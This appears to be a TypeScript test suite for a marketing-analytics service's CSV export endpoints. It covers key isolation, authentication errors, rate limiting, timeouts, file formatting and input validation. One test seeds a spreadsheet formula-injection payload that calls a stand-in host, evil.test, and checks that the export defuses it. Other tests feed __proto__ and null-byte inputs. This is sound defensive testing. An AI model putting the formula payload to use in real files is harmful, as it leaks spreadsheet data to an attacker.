import { get } from 'node:http'
import type { AddressInfo } from 'node:net'
import Fastify from 'fastify'
import { sql } from 'kysely'
import { describe, expect, vi } from 'vitest'
import { sendError } from '../http/errors.ts'
import { test } from '../test/export-test.ts'
import { crmLead, know, readingParts, spend } from '../test/graphql-test.ts'
import { sampleCompany } from '../test/sample-company.ts'
import { aSecretKey, aWriteKey } from '../test/workspaces.ts'
import { exportRoutes } from './export.routes.ts'

/** 10 points for any touchpoint. */
const scored = {
  name: 'Qualified',
  validFrom: '2026-01-01',
  businessHours: { timeZone: 'Europe/Berlin', week: { monday: '09:00-17:00' } },
  sla: { sales: { firstResponse: '4h', acceptOrRefuse: '16h' }, marketing: { nurture: '40h' } },
  rule: { score: { threshold: 10, of: [{ points: 10, touchpoints: { atLeast: 1 } }] } },
}

/** Parameters that must be given, as they mean nothing else unless they are. */
const needed: Readonly<Record<string, string>> = {
  'score-evaluation': `definition=${encodeURIComponent(JSON.stringify(scored))}`,
}

/** Each report, and a question to which the sample company has an answer that names something of its own. */
const questions = {
  'channel-performance': 'lastDays=3650',
  'channel-ranking': 'lastDays=3650&groupBy=SOURCE',
  'like-for-like': 'lastDays=3650&groupBy=SOURCE',
  'close-rate-split': 'lastDays=3650&groupBy=SOURCE',
  funnel: 'lastDays=3650&groupBy=SOURCE',
  velocity: 'lastDays=3650&groupBy=SOURCE',
  'lag-curve': 'lastDays=3650&of=CHANNEL',
  stability: 'lastDays=3650&groupBy=SOURCE',
  'score-evaluation': `lastDays=3650&horizonDays=90&${needed['score-evaluation']}`,
  'cohort-maturity': 'lastDays=3650&groupBy=SOURCE',
  attribution: 'lastDays=3650',
  kpis: 'lastDays=3650',
  'kpi-series': 'lastDays=3650',
  metrics: '',
  ledger: 'groupBy=SOURCE',
  'ledger-flows': '',
  'untouched-leads': 'asOf=2026-02-01T00:00:00Z',
  handoffs: 'lastDays=3650&groupBy=SOURCE',
  reasons: 'lastDays=3650&groupBy=SOURCE',
  leads: 'lastDays=3650',
  spend: 'lastDays=3650',
  experiments: '',
  'audience-match': 'lastDays=3650&fact=SOURCE',
}
const reports = Object.keys(questions)

test.beforeEach(async ({ db, workspaces: [ours, theirs] }) => {
  await know(db, ours, { ...sampleCompany, spends: [spend('2026-01-05', 'Email', 100)] })
  await know(db, theirs, {
    records: [crmLead('mallory', { createdAt: '2026-01-05', source: 'secret source' })],
    spends: [spend('2026-01-05', 'Display', 999, { campaign: 'secret campaign' })],
  })
})

describe('a key', () => {
  test.for(Object.entries(questions))(
    'exports %s of its own workspace and of no other',
    async ([report, query], { exports, keys }) => {
      const [ours, theirs] = await Promise.all(keys.map((key) => exports.get(`/${report}.csv?${query}`, key)))
      expect([ours?.status, theirs?.status]).toEqual([200, 200])
      expect(ours?.text).not.toMatch(/secret|Display|,9\.99,/)
      expect(theirs?.text).not.toMatch(/google|Email|Trade Show|Olga|1\.00,EUR\r/)
      expect(ours?.rows.length).toBeGreaterThan(0)
    },
  )

  test('of any role exports the same', async ({ db, exports, workspaces: [ours] }) => {
    const texts = new Set<string>()
    for (const role of ['MARKETING', 'SALES', 'ADMIN', 'BI'] as const) {
      texts.add((await exports.get('/leads.csv', await aSecretKey(db, ours.id, { roles: [role] }))).text)
    }
    expect(texts.size).toBe(1)
  })

  test.for(['', ...reports.map((report) => `/${report}.csv`), '/nothing.csv'])(
    'is needed at %s: none, a wrong one and a write key are refused',
    async (path, { db, exports, workspaces: [ours], keys }) => {
      const asked = [null, 'tls_wrong', await aWriteKey(db, ours.id)]
      const answers = await Promise.all(asked.map((key) => exports.get(path, key)))
      expect(answers.map(({ status, text }) => [status, JSON.parse(text).error.code])).toEqual([
        [401, 'KEY_MISSING'],
        [401, 'KEY_INVALID'],
        [401, 'KEY_INVALID'],
      ])
      expect(answers[0]?.headers['www-authenticate']).toBe('Bearer')
      expect(JSON.parse((await exports.get(`${path}?key=${keys[0]}`, null)).text).error.code).toBe('KEY_MISSING')
    },
  )
})

describe('what one question may cost', () => {
  test('is the same rate at GraphQL and here', async ({ db, exports, workspaces: [ours] }) => {
    const key = await aSecretKey(db, ours.id, { requestsPerSecond: 1 })
    const headers = { authorization: `Bearer ${key}` }
    const payload = { query: '{ __typename }' }
    const asked = [
      (await exports.get('', key)).status,
      (await exports.app.inject({ method: 'POST', url: '/graphql', headers, payload })).statusCode,
      (await exports.get('/spend.csv', key)).status,
      (await exports.get('/nothing.csv', key)).status,
    ]
    expect(asked).toEqual([200, 200, 200, 404])
    const { status, text, headers: told } = await exports.get('/spend.csv', key)
    expect([status, JSON.parse(text).error.code, told['retry-after']]).toEqual([429, 'RATE_LIMITED', '1'])
  })

  test('is bounded in time', async ({ db, reader, keys }) => {
    const app = Fastify()
    app.setErrorHandler(sendError)
    await app.register(exportRoutes(readingParts(reader, 1)))
    const waiting = await db.startTransaction().execute()
    try {
      await sql`lock table lead in access exclusive mode`.execute(waiting)
      const headers = { authorization: `Bearer ${keys[0]}` }
      const answer = await app.inject({ url: '/export/leads.csv', headers })
      expect([answer.statusCode, answer.json().error.code]).toEqual([504, 'QUERY_TIMEOUT'])
    } finally {
      await waiting.rollback().execute()
    }
    await app.close()
  }, 20_000)
})

test('what there is to export is listed, with parameters that are taken as they stand', async ({ exports }) => {
  const list = JSON.parse((await exports.get('')).text).exports
  expect(list.map(({ url }: { url: string }) => url)).toEqual(reports.map((report) => `/export/${report}.csv`))
  for (const { name, url, parameters, columns } of list) {
    const must = needed[name] ?? ''
    const usual = parameters.filter((one: { default: string | null }) => one.default !== null)
    const query = new URLSearchParams(usual.map((one: { name: string; default: string }) => [one.name, one.default]))
    const [told, left] = [
      await exports.get(`${url.slice(7)}?${query}&${must}`),
      await exports.get(`${url.slice(7)}?${must}`),
    ]
    expect([told.status, told.text]).toEqual([200, left.text])
    expect(told.text.split('\r\n')[0]).toBe(columns.join(','))
    expect(parameters.every(({ description, takes }: Record<string, string>) => description && takes)).toBe(true)
  }
})

describe('a file', () => {
  test('has a name, CRLF and a header, even where it has no rows', async ({ exports }) => {
    const { headers, text } = await exports.get('/spend.csv?from=2020-01-01&to=2020-02-01')
    expect(text).toBe('day,system,channel,campaign,source,amount,currency\r\n')
    expect(headers).toMatchObject({
      'content-type': 'text/csv; charset=utf-8',
      'content-disposition': 'attachment; filename="touchline-spend-2020-01-01-2020-02-01.csv"',
      'cache-control': 'no-store',
    })
    const { headers: ofAll } = await exports.get('/leads.csv')
    expect(ofAll['content-disposition']).toBe('attachment; filename="touchline-leads.csv"')
  })

  test('keeps what people typed text, whatever it is', async ({ db, exports, workspaces: [ours] }) => {
    const owner = '=HYPERLINK("https://evil.test?a="&A1;"Click")'
    const lossReason = 'too "early", they said;\r\nor\nlate'
    await know(db, ours, {
      records: [crmLead('fay', { createdAt: '2026-03-01', owner, lossReason, lostAt: '2026-03-02' })],
    })
    const { rows, text } = await exports.get('/leads.csv?from=2026-03-01&to=2026-03-02')
    expect(rows).toEqual([expect.objectContaining({ owner: `'${owner}`, loss_reason: lossReason })])
    expect(text).toContain(`"'=HYPERLINK(""https://evil.test?a=""&A1;""Click"")"`)
    const byOwner = await exports.get('/channel-performance.csv?groupBy=OWNER&from=2026-03-01&to=2026-03-02')
    expect(byOwner.rows[0]?.['owner']).toBe(`'${owner}`)
  })

  test('of more leads than are read at once has each once, the newest first', async ({ db, exports, workspaces }) => {
    const names = Array.from({ length: 2_300 }, (_, i) => `many${i}`)
    const createdAt = (i: number): string => new Date(Date.UTC(2026, 3, 1 + (i % 3))).toISOString().slice(0, 10)
    await know(db, workspaces[0], {
      records: names.map((name, i) => crmLead(name, { createdAt: createdAt(i), owner: name })),
    })
    const { rows } = await exports.get('/leads.csv?from=2026-04-01&to=2026-05-01')
    expect(rows.map(({ owner }) => owner).sort()).toEqual([...names].sort())
    const times = rows.map(({ created_at }) => created_at)
    expect(times).toEqual(times.toSorted().reverse())
  }, 60_000)
})

describe('a question that makes no sense', () => {
  test.for([
    ['/leads', 404, 'EXPORT_UNKNOWN', 'There is no export "leads": there are "channel-performance.csv"'],
    ['/chanel-performance.csv', 404, 'EXPORT_UNKNOWN', 'did you mean "channel-performance.csv"?'],
    ['/leads.csv?grupBy=CHANNEL', 400, 'PARAMETER_UNKNOWN', 'There is no parameter "grupBy"'],
    ['/attribution.csv?grupBy=CHANNEL', 400, 'PARAMETER_UNKNOWN', 'did you mean "groupBy"?'],
    ['/spend.csv?key=x', 400, 'PARAMETER_UNKNOWN', 'There is no parameter "key"'],
    ['/spend.csv?__proto__=x', 400, 'PARAMETER_UNKNOWN', 'There is no parameter "__proto__"'],
    ['/attribution.csv?model=LINEER', 400, 'PARAMETER_INVALID', 'model is "LINEER": did you mean "LINEAR"?'],
    ['/attribution.csv?groupBy=CHANNEL,OWNER', 400, 'PARAMETER_INVALID', 'groupBy is "OWNER": there are "CHANNEL"'],
    ['/attribution.csv?groupBy=', 400, 'PARAMETER_INVALID', 'groupBy is ""'],
    ['/attribution.csv?groupBy=CHANNEL,CHANNEL', 400, 'INPUT_INVALID', 'name each dimension once'],
    ['/attribution.csv?lookbackDays=0', 400, 'INPUT_INVALID', 'lookbackDays is 0: give 1 to 3650'],
    ['/attribution.csv?lookbackDays=1e3', 400, 'PARAMETER_INVALID', 'lookbackDays is "1e3": give a whole number'],
    ['/channel-performance.csv?wonWithinDays=30,x', 400, 'PARAMETER_INVALID', 'wonWithinDays is "x"'],
    ['/channel-performance.csv?basis=COHORT&basis=COHORT', 400, 'PARAMETER_INVALID', 'basis is given more than once'],
    ['/spend.csv?from=2026-01-01', 400, 'PARAMETER_INVALID', 'from is given alone: give both from and to'],
    ['/spend.csv?preset=TODAY&lastDays=3', 400, 'PARAMETER_INVALID', 'More than one range is given'],
    ['/spend.csv?from=2026-02-30&to=2026-03-01', 400, 'PARAMETER_INVALID', 'from is "2026-02-30": give a day'],
    ['/spend.csv?from=2026-02-01&to=2026-01-01', 400, 'RANGE_INVALID', 'No day is from 2026-02-01'],
    ['/spend.csv?lastDays=0', 400, 'RANGE_INVALID', 'lastDays is 0'],
    ['/experiments.csv?control=b', 400, 'PARAMETER_INVALID', 'control and split are of one experiment: give its name'],
    [
      '/experiments.csv?name=pricing&split=b:1',
      400,
      'PARAMETER_INVALID',
      'split is "b:1": give JSON like {"control":3',
    ],
    [
      '/experiments.csv?name=pricing&control=x',
      400,
      'INPUT_INVALID',
      'control is "x", and the variants are b, control',
    ],
    ['/experiments.csv?expectedLift=-1', 400, 'PARAMETER_INVALID', 'expectedLift is "-1": give a number'],
    ['/spend.csv?timeZone=Berlin', 400, 'PARAMETER_INVALID', 'give an IANA zone like Europe/Berlin'],
    ['/leads.csv?channel=%00', 400, 'PARAMETER_INVALID', 'channel is'],
    ['/attribution.csv?filter={', 400, 'PARAMETER_INVALID', 'filter is no JSON: give one FilterInput'],
    ['/attribution.csv?filter={"and":[],"or":[]}', 400, 'PARAMETER_INVALID', 'filter does not fit: Exactly one key'],
    ['/attribution.csv?filter={"not":{"what":1}}', 400, 'PARAMETER_INVALID', 'filter does not fit: at not'],
    [
      `/attribution.csv?filter=${'{"not":'.repeat(9)}{"and":[]}${'}'.repeat(9)}`,
      400,
      'INPUT_INVALID',
      'more than 8 deep',
    ],
    ['/ledger.csv?asOf=2026-06-01', 400, 'PARAMETER_INVALID', 'asOf is "2026-06-01": give an instant'],
    ['/ledger.csv?groupBy=MONTH', 400, 'PARAMETER_INVALID', 'groupBy is "MONTH"'],
    ['/ledger.csv?groupBy=OWNER,OWNER', 400, 'INPUT_INVALID', 'name each dimension once'],
    [
      '/ledger-flows.csv?asOf=2026-01-01T00:00:00Z&since=2026-01-02T00:00:00Z',
      400,
      'INPUT_INVALID',
      'since is 2026-01-02T00:00:00.000Z, after asOf',
    ],
    ['/untouched-leads.csv?overdueOnly=yes', 400, 'PARAMETER_INVALID', 'overdueOnly is "yes"'],
    ['/channel-ranking.csv?compareTo=PERIOD', 400, 'PARAMETER_UNKNOWN', 'There is no parameter "compareTo"'],
    ['/score-evaluation.csv?lastDays=30', 400, 'PARAMETER_INVALID', 'definition is missing'],
    ['/score-evaluation.csv?lastDays=30&definition=name:%20x', 400, 'DEFINITION_INVALID', 'definition'],
    ['/cohort-maturity.csv?horizonDays=0', 400, 'INPUT_INVALID', 'horizonDays is 0: give 1 to 3650'],
    ['/cohort-maturity.csv?horizonDays=half', 400, 'PARAMETER_INVALID', 'horizonDays is "half"'],
    ['/reasons.csv?kind=LOST', 400, 'PARAMETER_INVALID', 'did you mean "LOSS"?'],
    ['/reasons.csv?compareTo=LAST', 400, 'PARAMETER_INVALID', 'compareTo is "LAST": give PERIOD or YEAR, or days'],
    ['/kpis.csv?ids=wonn', 400, 'PARAMETER_INVALID', 'did you mean "won"?'],
    ['/kpis.csv?ids=won,won', 400, 'INPUT_INVALID', 'name each metric once'],
    ['/attribution.csv?compareTo=LAST', 400, 'PARAMETER_INVALID', 'compareTo is "LAST": give PERIOD or YEAR, or days'],
    ['/attribution.csv?lastDays=3&compareTo=2026-06-01/2026-07-01', 400, 'INPUT_INVALID', 'compareTo ends 2026-07-01'],
  ] as const)('%s is refused', async ([path, status, code, message], { exports }) => {
    const answer = await exports.get(path)
    expect(answer.status).toBe(status)
    expect(JSON.parse(answer.text).error).toEqual({
      code,
      message: expect.stringContaining(message),
      remedy: expect.any(String),
    })
  })
})

test('a filter as deep as an address may be long is refused', async ({ exports }) => {
  const { status, text } = await exports.get(`/attribution.csv?filter=${'{"not":'.repeat(900)}1${'}'.repeat(900)}`)
  expect([status, JSON.parse(text).error.code]).toEqual([400, 'PARAMETER_INVALID'])
})

test('only so many are written at once, and who leaves gives back the place', async ({ db, exports, keys }) => {
  await exports.app.listen({ port: 0, host: '127.0.0.1' })
  const { port } = exports.app.server.address() as AddressInfo
  const headers = { authorization: `Bearer ${keys[0]}` }
  const ask = () => get({ host: '127.0.0.1', port, path: '/export/leads.csv', headers }).on('error', () => {})
  const waiting = await db.startTransaction().execute()
  try {
    await sql`lock table lead in access exclusive mode`.execute(waiting)
    const clients = [ask(), ask(), ask(), ask()]
    await vi.waitFor(async () => {
      const { rows } = await sql`select from pg_locks where relation = 'lead'::regclass and not granted`.execute(db)
      expect(rows).toHaveLength(4)
    }, 10_000)
    const refused = await exports.get('/spend.csv')
    expect(refused.status).toBe(503)
    expect([JSON.parse(refused.text).error.code, refused.headers['retry-after']]).toEqual(['EXPORTS_BUSY', '5'])
    for (const client of clients) client.destroy()
  } finally {
    await waiting.rollback().execute()
  }
  const again = await vi.waitFor(async () => {
    const answers = await Promise.all([1, 2, 3, 4].map(() => exports.get('/leads.csv')))
    expect(answers.map(({ status }) => status)).toEqual([200, 200, 200, 200])
    return answers
  }, 10_000)
  expect(again.map(({ rows }) => rows.length)).toEqual([5, 5, 5, 5])
}, 30_000)
